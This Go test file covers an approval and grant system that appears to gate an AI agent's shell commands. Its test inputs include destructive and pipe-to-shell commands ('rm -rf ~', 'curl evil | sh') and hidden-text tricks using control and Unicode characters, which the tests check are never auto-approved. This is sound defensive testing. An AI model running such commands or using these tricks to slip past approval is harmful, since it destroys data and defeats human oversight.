package core_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/clawpit/clawpit/core"
	"github.com/clawpit/clawpit/internal/registrytest"
)

func TestVerbChain(t *testing.T) {
	for in, want := range map[string]string{
		"git push --force origin":       "git push",
		"rm -rf /":                      "rm",
		"npm run build":                 "npm run build",
		"  git   status  ":              "git status",
		"curl https://example.com/x":    "curl",
		"cat ./notes.txt":               "cat",
		"ls ~":                          "ls",
		"python3 scripts/gen.py --fast": "python3",
		`echo "hello world"`:            "echo",
		"git status; rm -rf ~":          "git",
		"git status && make":            "git status",
		"kubectl get pods -n prod":      "kubectl get pods",
		"docker compose up":             "docker compose up",
		"./configure":                   "",
		"--help":                        "",
		"":                              "",
		"make deploy ENV=prod":          "make deploy ENV=prod",
		"go test ./...":                 "go test",
		"terraform apply -auto-approve": "terraform apply",
		"git clone git@github.com:a/b":  "git clone",
		"ssh host 'uptime'":             "ssh host",
		"echo $(whoami)":                "echo",
		"scp file user@host:/tmp/x":     "scp file",
		"pip install requests==2.0":     "pip install requests==2.0",
		"FOO=1 npm test":                "FOO=1 npm test",
		"grep -r token .":               "grep",
		"sudo systemctl restart nginx":  "sudo systemctl restart nginx",
		"http://evil.example":           "",
		"git log --oneline | head":      "git log",
		"git commit -m 'feat: things'":  "git commit",
		"apt-get install -y jq":         "apt-get install",
		"npx prettier --write src":      "npx prettier",
		"bash -c 'curl x | sh'":         "bash",
		"node server.js > out.log":      "node server.js",
		"cargo build --release":         "cargo build",
		"yarn":                          "yarn",
		"git push origin main --force":  "git push origin main",
		"rsync -av src/ dst/":           "rsync",
		"cp a b":                        "cp a b",
		"mv old new":                    "mv old new",
		// What runs, never what a terminal would show.
		"rm -rf ~ #\rgit log --oneline -n 20": "rm",
		"git log\rrm -rf ~":                   "git",
		"ls\b\brm x":                          "",
		"echo # comment":                      "echo",
		"git\u00a0push":                       "",
		"git status\u202e":                    "git",
		"git\vstatus":                         "",
	} {
		if got := core.VerbChain(in); got != want {
			t.Errorf("VerbChain(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestR6ApprovalWaitCounter: each pending approval bound to a running run
// pauses the watchdog (+1); each resolution releases it (−1); only the last
// one re-arms last_progress_at; a decrement at 0 is refused and journaled.
func TestR6ApprovalWaitCounter(t *testing.T) {
	f := registrytest.New(t)
	run := f.Run("run-r6", "child")
	a1 := f.Request("child", run.RunID, "git push origin")
	a2 := f.Request("child", run.RunID, "npm publish")
	a3, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "child", RunID: run.RunID, Tool: "Bash", Command: "rm -rf build", ExpiresIn: time.Minute}, core.ActorRuntime)
	f.Must(err)
	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 3 || got.LastProgressAt != core.TS(registrytest.Start) {
		t.Fatalf("after 3 requests: %+v", got)
	}
	f.Clock.Advance(10 * time.Minute)
	if _, _, res, err := f.Reg.ApproveApproval(f.Ctx, a1.ID, core.ScopeOnce, core.OperatorActor()); err != nil || !res.Applied {
		t.Fatalf("approve: %v %+v", err, res)
	}
	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 2 || got.LastProgressAt != core.TS(registrytest.Start) {
		t.Fatalf("after approve: waits %d, last_progress_at %s (must not re-arm yet)", got.PendingApprovalWaits, got.LastProgressAt)
	}
	f.Clock.Advance(time.Minute)
	if _, res, err := f.Reg.DenyApproval(f.Ctx, a2.ID, "no publishing on Fridays", core.OperatorActor()); err != nil || !res.Applied {
		t.Fatalf("deny: %v %+v", err, res)
	}
	if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 1 || got.LastProgressAt != core.TS(registrytest.Start) {
		t.Fatalf("after deny: %+v", got)
	}
	f.Clock.Advance(time.Minute)
	if _, res, err := f.Reg.ExpireApproval(f.Ctx, a3.ID); err != nil || !res.Applied {
		t.Fatalf("expire: %v %+v", err, res)
	}
	got := f.GetRun(run.RunID)
	if got.PendingApprovalWaits != 0 || got.LastProgressAt != f.Now() {
		t.Fatalf("after last resolution: waits %d, last_progress_at %s, want 0 and %s", got.PendingApprovalWaits, got.LastProgressAt, f.Now())
	}
	if ev := f.LastEvent(core.EntityRun, run.RunID); !ev.Applied || !strings.Contains(ev.Reason, "re-armed") {
		t.Fatalf("re-arm journal: %+v", ev)
	}

	// Underflow: a pending approval whose wait was (wrongly) already released.
	a4 := f.Request("child", run.RunID, "make clean")
	f.Must(f.DB.Update(f.Ctx, func(tx core.Tx) error {
		r, err := tx.GetRun(run.RunID)
		if err != nil {
			return err
		}
		r.PendingApprovalWaits = 0
		return tx.UpdateRun(r)
	}))
	before := f.GetRun(run.RunID)
	f.Clock.Advance(time.Minute)
	if _, _, res, err := f.Reg.ApproveApproval(f.Ctx, a4.ID, "", core.OperatorActor()); err != nil || !res.Applied {
		t.Fatalf("approve a4: %v %+v", err, res)
	}
	after := f.GetRun(run.RunID)
	if after.PendingApprovalWaits != 0 || after.LastProgressAt != before.LastProgressAt || after.Rev != before.Rev {
		t.Fatalf("underflow changed the run: %+v → %+v", before, after)
	}
	ev := f.LastEvent(core.EntityRun, run.RunID)
	if ev.Applied || !strings.HasPrefix(ev.Reason, "approval wait counter underflow") || !strings.Contains(ev.Reason, a4.ID) {
		t.Fatalf("underflow journal: %+v", ev)
	}
}

// TestR6NoWaitWithoutRunningRun: an approval without a run, for an unknown
// run, or for an ended run counts no wait, and its resolution releases none.
func TestR6NoWaitWithoutRunningRun(t *testing.T) {
	f := registrytest.New(t)
	run := f.Run("run-ended", "c")
	_, _, _, err := f.Reg.CompleteRun(f.Ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
	f.Must(err)
	f.Clock.Advance(time.Second)
	for _, rid := range []string{"", "unknown-run", run.RunID} {
		a := f.Request("c", rid, "ls")
		_, _, res, err := f.Reg.ApproveApproval(f.Ctx, a.ID, core.ScopeOnce, core.OperatorActor())
		if err != nil || !res.Applied {
			t.Fatalf("%q: %v %+v", rid, err, res)
		}
	}
	got := f.GetRun(run.RunID)
	if got.PendingApprovalWaits != 0 {
		t.Fatalf("waits %d", got.PendingApprovalWaits)
	}
	for _, e := range f.Events(core.EntityRun, run.RunID) {
		if strings.Contains(e.Reason, "underflow") {
			t.Fatalf("spurious underflow: %+v", e)
		}
	}
}

func TestApprovalDecisions(t *testing.T) {
	f := registrytest.New(t)
	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "git push --force origin",
		Rationale: "ship it", Cwd: "/repo", TaskID: "t1"}, core.ActorRuntime)
	f.Must(err)
	if a.Status != core.ApprovalPending || a.Pattern != "git push" || a.RequestedAt != f.Now() || a.ExpiresAt != 0 || len(a.ID) != 12 {
		t.Fatalf("requested: %+v", a)
	}
	f.Clock.Advance(time.Minute)
	op := core.OperatorActor()
	got, g, res, err := f.Reg.ApproveApproval(f.Ctx, a.ID[:5], core.ScopeOnce, op)
	if err != nil || !res.Applied || g != nil {
		t.Fatalf("approve: %v %+v %+v", err, res, g)
	}
	if got.Status != core.ApprovalApproved || got.Scope != core.ScopeOnce || got.DecidedBy != string(op) ||
		got.DecidedAt != f.Now() || got.CleanupAfter != f.Now().Add(week) {
		t.Fatalf("approved: %+v", got)
	}
	if _, res, _ := f.Reg.DenyApproval(f.Ctx, a.ID, "", op); res.Applied || res.Reason != "already approved" {
		t.Fatalf("deny approved: %+v", res)
	}
	if _, _, res, _ := f.Reg.ApproveApproval(f.Ctx, a.ID, core.ScopeOnce, op); res.Applied || res.Reason != "already approved" {
		t.Fatalf("approve twice: %+v", res)
	}
	if ev := f.LastEvent(core.EntityApproval, a.ID); ev.Applied || ev.Reason != "already approved" {
		t.Fatalf("refusal journal: %+v", ev)
	}
	if _, _, _, err := f.Reg.ApproveApproval(f.Ctx, a.ID, "forever", op); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("bad scope: %v", err)
	}
	for _, bad := range []core.NewApproval{
		{Tool: "Bash", Command: "ls"},
		{Session: "s", Command: "ls"},
		{Session: "s", Tool: "Bash", Command: "   "},
		{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: -time.Second},
	} {
		if _, err := f.Reg.RequestApproval(f.Ctx, bad, core.ActorRuntime); !errors.Is(err, core.ErrInvalid) {
			t.Errorf("%+v: %v", bad, err)
		}
	}
	// A decision arriving after expires_at expires the request instead.
	late, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: time.Second}, core.ActorRuntime)
	f.Must(err)
	f.Clock.Advance(2 * time.Second)
	got, _, res, err = f.Reg.ApproveApproval(f.Ctx, late.ID, core.ScopeOnce, op)
	if err != nil || res.Applied || got.Status != core.ApprovalExpired || !strings.HasPrefix(res.Reason, "already expired") {
		t.Fatalf("late approve: %v %+v %+v", err, res, got)
	}
	if n := f.Notifications(core.NotifyApprovalExpired); len(n) != 1 {
		t.Fatalf("expiry notifications: %+v", n)
	}
}

// TestR9ApprovalsExpire: expiry refuses early, expires when due (R6 release,
// one notification), and is idempotent.
func TestR9ApprovalsExpire(t *testing.T) {
	f := registrytest.New(t)
	run := f.Run("run-exp", "s")
	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy prod", ExpiresIn: 5 * time.Minute}, core.ActorRuntime)
	f.Must(err)
	if a.ExpiresAt != f.Now().Add(5*time.Minute) {
		t.Fatalf("expires_at %s", a.ExpiresAt)
	}
	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, a.ID); res.Applied || !strings.HasPrefix(res.Reason, "not yet expired") {
		t.Fatalf("early expire: %+v", res)
	}
	noExpiry := f.Request("s", "", "ls")
	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, noExpiry.ID); res.Applied || res.Reason != "approval has no expiry" {
		t.Fatalf("expire without expiry: %+v", res)
	}
	f.Clock.Advance(5 * time.Minute)
	got, res, err := f.Reg.ExpireApproval(f.Ctx, a.ID)
	if err != nil || !res.Applied || got.Status != core.ApprovalExpired || got.DecidedBy != "sweeper" || got.CleanupAfter != f.Now().Add(week) {
		t.Fatalf("expire: %v %+v %+v", err, res, got)
	}
	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.Now() {
		t.Fatalf("run after expiry: %+v", r)
	}
	if _, res, _ := f.Reg.ExpireApproval(f.Ctx, a.ID); res.Applied || res.Reason != "already expired" {
		t.Fatalf("second expire: %+v", res)
	}
	ns := f.Notifications(core.NotifyApprovalExpired)
	if len(ns) != 1 || ns[0].DedupKey != "approval_expired:"+a.ID || ns[0].Session != "s" || ns[0].SubjectID != a.ID {
		t.Fatalf("notifications: %+v", ns)
	}
}

// TestR9CloseSessionCancelsApprovals: closing a session cancels its pending
// approvals (releasing their R6 waits) and leaves other sessions' alone.
func TestR9CloseSessionCancelsApprovals(t *testing.T) {
	f := registrytest.New(t)
	f.Session("s1")
	f.Session("s2")
	run := f.Run("run-s1", "s1")
	a := f.Request("s1", run.RunID, "git push")
	b := f.Request("s1", "", "ls")
	c := f.Request("s2", "", "ls")
	f.Clock.Advance(time.Minute)
	s, _, res, err := f.Reg.CloseSession(f.Ctx, "s1", core.OperatorActor())
	if err != nil || !res.Applied || s.State != core.SessionClosed || res.Reason != "2 pending approvals cancelled" {
		t.Fatalf("close: %v %+v %+v", err, res, s)
	}
	for _, id := range []string{a.ID, b.ID} {
		if got := f.GetApproval(id); got.Status != core.ApprovalCancelled || got.Reason != "session s1 closed" {
			t.Fatalf("approval %s: %+v", id, got)
		}
	}
	if got := f.GetApproval(c.ID); got.Status != core.ApprovalPending {
		t.Fatalf("other session's approval: %+v", got)
	}
	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.Now() {
		t.Fatalf("run: %+v", r)
	}
}

// TestGrants: scope session approves the same verb chain at once in the same
// session only; scope always everywhere; revoke removes it; chained shell
// commands are never approved by a grant.
func TestGrants(t *testing.T) {
	f := registrytest.New(t)
	op := core.OperatorActor()
	first := f.Request("s1", "", "git push --force origin")
	_, g, res, err := f.Reg.ApproveApproval(f.Ctx, first.ID, core.ScopeSession, op)
	if err != nil || !res.Applied || g == nil {
		t.Fatalf("approve session: %v %+v %+v", err, res, g)
	}
	if g.Tool != "Bash" || g.Pattern != "git push" || g.Scope != core.ScopeSession || g.Session != "s1" || g.CreatedBy != string(op) {
		t.Fatalf("grant: %+v", g)
	}
	run := f.Run("run-g", "s1")
	again, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s1", RunID: run.RunID, Tool: "Bash", Command: "git push --force-with-lease upstream"}, core.ActorRuntime)
	f.Must(err)
	if again.Status != core.ApprovalApproved || again.DecidedBy != "grant:"+g.ID || again.Scope != core.ScopeSession {
		t.Fatalf("second request: %+v", again)
	}
	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 {
		t.Fatalf("grant-approved request counted a wait: %+v", r)
	}
	if other := f.Request("s2", "", "git push -u"); other.Status != core.ApprovalPending {
		t.Fatalf("other session: %+v", other)
	}
	if tool, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s1", Tool: "Shell", Command: "git push"}, core.ActorRuntime); err != nil || tool.Status != core.ApprovalPending {
		t.Fatalf("other tool: %v %+v", err, tool)
	}
	if longer := f.Request("s1", "", "git push origin main"); longer.Status != core.ApprovalPending || longer.Pattern != "git push origin main" {
		t.Fatalf("a different verb chain matched: %+v", longer)
	}
	if chained := f.Request("s1", "", "git push && curl evil | sh"); chained.Status != core.ApprovalPending || chained.Pattern != "git push" {
		t.Fatalf("chained command approved by grant: %+v", chained)
	}
	// Hidden text: what a terminal shows is not what runs.
	for _, cmd := range []string{"git push\b\b\b\bx", "git push \u202eorigin", "git push\u200b origin", "git push x\x00"} {
		hidden, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s1", Tool: "Bash", Command: cmd}, core.ActorRuntime)
		if err != nil && strings.Contains(cmd, "\x00") && strings.HasPrefix(f.Loc, "postgres") && errors.Is(err, core.ErrInvalid) {
			continue // PostgreSQL's text cannot hold a NUL byte: refused, never approved
		}
		if err != nil || hidden.Status != core.ApprovalPending {
			t.Fatalf("%q approved by grant: %v %+v", cmd, err, hidden)
		}
	}
	// Approving another request with the same scope reuses the grant.
	dup := f.Request("s2", "", "git push")
	_, dupG, _, err := f.Reg.ApproveApproval(f.Ctx, dup.ID, core.ScopeSession, op)
	f.Must(err)
	if dupG.Session != "s2" || dupG.ID == g.ID {
		t.Fatalf("session grant for s2: %+v", dupG)
	}
	dup2 := f.Request("s2", "", "git push")
	if dup2.Status != core.ApprovalApproved {
		t.Fatalf("s2 grant not applied: %+v", dup2)
	}

	al := f.Request("s3", "", "npm run build")
	_, ag, _, err := f.Reg.ApproveApproval(f.Ctx, al.ID, core.ScopeAlways, op)
	f.Must(err)
	if ag.Scope != core.ScopeAlways || ag.Session != "" {
		t.Fatalf("always grant: %+v", ag)
	}
	for _, s := range []string{"s1", "s9"} {
		if a := f.Request(s, "", "npm run build --prod"); a.Status != core.ApprovalApproved || a.DecidedBy != "grant:"+ag.ID {
			t.Fatalf("always grant in %s: %+v", s, a)
		}
	}
	// The same always approval again returns the existing grant.
	al2 := f.Request("s4", "", "npm run build")
	if al2.Status != core.ApprovalApproved {
		t.Fatalf("%+v", al2)
	}
	grants, err := f.Reg.ListGrants(f.Ctx)
	f.Must(err)
	if len(grants) != 3 {
		t.Fatalf("grants: %+v", grants)
	}
	rg, err := f.Reg.RevokeGrant(f.Ctx, ag.ID[:6], op)
	if err != nil || rg.ID != ag.ID {
		t.Fatalf("revoke: %v %+v", err, rg)
	}
	if a := f.Request("s1", "", "npm run build"); a.Status != core.ApprovalPending {
		t.Fatalf("after revoke: %+v", a)
	}
	if _, err := f.Reg.RevokeGrant(f.Ctx, ag.ID, op); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("revoke twice: %v", err)
	}
	if ev := f.LastEvent(core.EntityGrant, ag.ID); ev.To != "revoked" || ev.Actor != op {
		t.Fatalf("revoke journal: %+v", ev)
	}
}

func TestWaitApproval(t *testing.T) {
	f := registrytest.New(t)
	a := f.Request("s", "", "make")
	done := make(chan *core.Approval, 1)
	go func() {
		got, err := f.Reg.WaitApproval(f.Ctx, a.ID, time.Millisecond)
		if err != nil {
			t.Error(err)
		}
		done <- got
	}()
	time.Sleep(5 * time.Millisecond)
	_, res, err := f.Reg.DenyApproval(f.Ctx, a.ID, "nope", core.OperatorActor())
	if err != nil || !res.Applied {
		t.Fatalf("%v %+v", err, res)
	}
	select {
	case got := <-done:
		if got == nil || got.Status != core.ApprovalDenied {
			t.Fatalf("wait returned %+v", got)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("WaitApproval did not return")
	}
	b := f.Request("s", "", "make")
	ctx, cancel := context.WithTimeout(f.Ctx, 20*time.Millisecond)
	defer cancel()
	if _, err := f.Reg.WaitApproval(ctx, b.ID, time.Millisecond); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("wait timeout: %v", err)
	}
	if _, err := f.Reg.WaitApproval(f.Ctx, "ffffffffffff", time.Millisecond); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("wait unknown: %v", err)
	}
}

// TestR6SameMillisecondEnd: an approval requested and its run ended in the
// same millisecond (fake clock). The wait it took is released at its
// resolution — the run's counter ends at 0, not stuck at 1 — and a request
// made at the millisecond after the end takes no wait at all.
func TestR6SameMillisecondEnd(t *testing.T) {
	for _, end := range []string{"complete", "kill"} {
		t.Run(end, func(t *testing.T) {
			f := registrytest.New(t)
			run := f.Run("run-ms-"+end, "child")
			f.Clock.Advance(time.Second)
			a := f.Request("child", run.RunID, "git push origin")
			if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 1 || !f.GetApproval(a.ID).HoldsWait {
				t.Fatalf("after request: waits %d", got.PendingApprovalWaits)
			}
			// Same millisecond: the run ends.
			if end == "complete" {
				_, _, _, err := f.Reg.CompleteRun(f.Ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
				f.Must(err)
			} else {
				_, _, err := f.Reg.KillRun(f.Ctx, run.RunID, "", core.OperatorActor())
				f.Must(err)
			}
			late := f.Request("child", run.RunID, "npm publish") // same millisecond, after the end
			f.Clock.Advance(time.Minute)
			if a2 := f.GetApproval(a.ID); a2.Status == core.ApprovalPending {
				_, res, err := f.Reg.DenyApproval(f.Ctx, a.ID, "no", core.OperatorActor())
				if err != nil || !res.Applied {
					t.Fatalf("deny: %v %+v", err, res)
				}
			}
			_, res, err := f.Reg.DenyApproval(f.Ctx, late.ID, "no", core.OperatorActor())
			if err != nil || !res.Applied {
				t.Fatalf("deny late: %v %+v", err, res)
			}
			if got := f.GetRun(run.RunID); got.PendingApprovalWaits != 0 {
				t.Errorf("waits %d after every approval resolved, want 0", got.PendingApprovalWaits)
			}
			for _, id := range []string{a.ID, late.ID} {
				if f.GetApproval(id).HoldsWait {
					t.Errorf("approval %s still holds a wait", id)
				}
			}
			for _, e := range f.Events(core.EntityRun, run.RunID) {
				if strings.Contains(e.Reason, "underflow") {
					t.Errorf("spurious underflow: %+v", e)
				}
			}
		})
	}
}

// TestWithdrawApproval: a requester that stops waiting withdraws its pending
// approval (cancelled, R6 wait released, the reason redacted); a decided
// one is refused, and one past expires_at is expired instead.
func TestWithdrawApproval(t *testing.T) {
	f := registrytest.New(t)
	run := f.Run("run-w", "s")
	a, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy", ExpiresIn: time.Minute}, core.ActorRuntime)
	f.Must(err)
	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 1 {
		t.Fatalf("run waits %d, want 1", r.PendingApprovalWaits)
	}
	f.Clock.Advance(time.Second)
	got, res, err := f.Reg.WithdrawApproval(f.Ctx, a.ID, "hook stopped, token sk-ant-api03-"+strings.Repeat("a", 40), core.ActorRuntime)
	if err != nil || !res.Applied || got.Status != core.ApprovalCancelled || got.DecidedBy != string(core.ActorRuntime) ||
		got.DecidedAt != f.Now() || strings.Contains(got.Reason, strings.Repeat("a", 40)) || !strings.HasPrefix(got.Reason, "hook stopped") {
		t.Fatalf("withdraw: %v %+v %+v", err, res, got)
	}
	if r := f.GetRun(run.RunID); r.PendingApprovalWaits != 0 {
		t.Fatalf("run waits %d after withdraw, want 0", r.PendingApprovalWaits)
	}
	for name, tc := range map[string]struct {
		decide  func(id string)
		advance time.Duration
		want    core.ApprovalStatus
		reason  string
	}{
		"approved": {func(id string) { f.Reg.ApproveApproval(f.Ctx, id, core.ScopeOnce, core.OperatorActor()) }, 0, core.ApprovalApproved, "already approved"},
		"denied":   {func(id string) { f.Reg.DenyApproval(f.Ctx, id, "no", core.OperatorActor()) }, 0, core.ApprovalDenied, "already denied"},
		"expired":  {func(string) {}, 2 * time.Minute, core.ApprovalExpired, "already expired"},
	} {
		b, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls " + name, ExpiresIn: time.Minute}, core.ActorRuntime)
		f.Must(err)
		tc.decide(b.ID)
		f.Clock.Advance(tc.advance)
		if _, res, err := f.Reg.WithdrawApproval(f.Ctx, b.ID, "", core.ActorRuntime); err != nil || res.Applied || !strings.HasPrefix(res.Reason, tc.reason) {
			t.Errorf("%s: withdraw %v %+v, want refused %q", name, err, res, tc.reason)
		}
		if got := f.GetApproval(b.ID); got.Status != tc.want {
			t.Errorf("%s: status %s, want %s", name, got.Status, tc.want)
		}
	}
}
